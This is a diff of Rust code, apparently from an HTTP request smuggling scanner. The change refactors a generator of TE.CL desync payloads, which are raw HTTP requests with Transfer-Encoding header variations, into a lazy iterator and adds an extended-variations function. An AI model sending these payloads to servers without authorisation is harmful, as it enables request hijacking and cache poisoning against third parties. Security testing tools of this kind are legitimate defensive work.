@@ -1,21 +1,37 @@
-use super::{format_cookies, format_custom_headers, te_variations::get_te_header_variations};
+use super::{
+    PayloadIter, RequestParts,
+    te_variations::{te_header_extended_variations, te_header_variations},
+};
 
 /// Generate TE.CL (Transfer-Encoding vs Content-Length) attack payloads
-pub fn get_te_cl_payloads(
+pub fn te_cl_payloads(
     path: &str,
     host: &str,
     method: &str,
     custom_headers: &[String],
     cookies: &[String],
-) -> Vec<String> {
-    let te_headers = get_te_header_variations();
+) -> PayloadIter {
+    let parts = RequestParts::new(path, host, method, custom_headers, cookies);
+    te_cl_with(te_header_variations(), parts)
+}
+
+/// TE.CL payloads over the `--extended` Transfer-Encoding variations
+pub fn te_cl_extended_payloads(
+    path: &str,
+    host: &str,
+    method: &str,
+    custom_headers: &[String],
+    cookies: &[String],
+) -> PayloadIter {
+    let parts = RequestParts::new(path, host, method, custom_headers, cookies);
+    te_cl_with(te_header_extended_variations(), parts)
+}
 
-    let mut payloads = Vec::with_capacity(te_headers.len());
-    let custom_header_str = format_custom_headers(custom_headers);
-    let cookie_str = format_cookies(cookies);
+fn te_cl_with(variations: Vec<(String, String)>, parts: RequestParts) -> PayloadIter {
+    let (names, te_headers): (Vec<String>, Vec<String>) = variations.into_iter().unzip();
 
-    for te_header in &te_headers {
-        payloads.push(format!(
+    PayloadIter::new(te_headers.len(), move |i| {
+        format!(
             "{} {} HTTP/1.1\r\n\
              Host: {}\r\n\
              Connection: keep-alive\r\n\
@@ -28,8 +44,21 @@ pub fn get_te_cl_payloads(
              A\r\n\
              0\r\n\
              \r\n",
-            method, path, host, custom_header_str, cookie_str, te_header
-        ));
-    }
-    payloads
+            parts.method, parts.path, parts.host, parts.headers, parts.cookies, te_headers[i]
+        )
+    })
+    .named(move |i, _| names[i].clone())
+}
+
+/// Eagerly collected [`te_cl_payloads`]
+pub fn get_te_cl_payloads(
+    path: &str,
+    host: &str,
+    method: &str,
+    custom_headers: &[String],
+    cookies: &[String],
+) -> Vec<String> {
+    te_cl_payloads(path, host, method, custom_headers, cookies)
+        .map(|p| p.request)
+        .collect()
 }